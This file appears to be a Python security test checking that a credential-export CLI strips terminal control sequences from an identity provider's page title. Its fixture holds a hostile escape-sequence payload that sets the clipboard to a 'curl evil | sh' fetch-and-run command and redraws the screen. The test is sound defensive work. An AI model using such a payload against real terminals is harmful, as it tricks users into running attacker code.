"""Security: what an IdP says reaches the terminal as text, never as control sequences.

An IdP's page title or error words, an app label or an account name are shown to the user; an escape
sequence in them could set the clipboard (OSC 52), retitle the window or redraw the screen.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from werkzeug.wrappers import Response

from shellenv.sandbox.serve import Server

PROGRAM = str(Path(sys.executable).parent / "shellenv")
# Sets the clipboard to `curl evil | sh`, rings the bell, then moves the cursor and clears the line.
HOSTILE = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b2K\x1b[1A\rSign in"


def hostile_idp(environ, start_response):  # noqa: ANN001, ANN201 - a WSGI app
    page = f"<html><head><title>{HOSTILE}</title></head><body><p>Nothing here</p></body></html>"
    return Response(page, mimetype="text/html")(environ, start_response)


def test_an_idp_page_title_reaches_stderr_without_control_characters(home: Path) -> None:
    with Server(hostile_idp) as server:
        config = home / ".config" / "shellenv" / "config.toml"
        config.parent.mkdir(parents=True)
        config.write_text(f'[idp.work]\ntype = "saml-form"\nurl = "{server.url}/sso"\nusername = "alice"\n'
                          'password = "alice-password"\n\n[profile.dev]\nidp = "work"\n'
                          'role_arn = "arn:aws:iam::111111111111:role/Admin"\n')
        config.chmod(0o600)
        result = subprocess.run([PROGRAM, "export", "--shell", "bash", "dev"], capture_output=True,
                                text=True, timeout=30, stdin=subprocess.DEVNULL,
                                env={"HOME": str(home), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"})

    assert result.returncode != 0 and result.stdout == ""
    assert "Sign in" in result.stderr, result.stderr
    assert not any(ord(c) < 32 and c != "\n" or 0x7F <= ord(c) < 0xA0 for c in result.stderr), (
        repr(result.stderr))
